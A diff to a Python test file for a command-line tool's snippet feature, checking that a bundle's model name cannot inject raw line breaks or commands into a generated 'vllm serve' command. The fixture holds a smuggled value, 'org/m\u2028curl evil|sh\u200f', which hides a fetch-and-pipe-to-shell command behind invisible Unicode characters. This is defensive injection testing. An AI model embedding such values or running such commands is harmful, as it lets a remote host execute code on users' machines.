@@ -129,8 +129,9 @@ def test_snippet_command_shows_a_bundle_models_newline_escaped(tmp_path, cli):
     code, out, err = cli(["--db", str(db), "snippet", sid, "--command"])
     assert code == 0, err
     # a long command keeps d1-paste-cli's ` \` continuations; no other line break, nothing raw
-    assert out.replace(" \\\n  ", " ").count("\n") == 1 and "\u2028" not in out and "\u200f" not in out
-    assert "$'org/m\\u2028curl evil|sh\\u200f'" in out
+    assert out.replace(" \\\n  ", " ").count("\n") == 1 and "\u2028" not in out + err and "\u200f" not in out + err
+    # the bundle's model is never the command's (MODEL stands in); the note names it, escaped
+    assert "vllm serve MODEL" in out and "curl" not in out and "org/m\\u2028curl evil|sh\\u200f" in err
 
 
 def test_the_tui_recommendation_panel_forges_no_line():
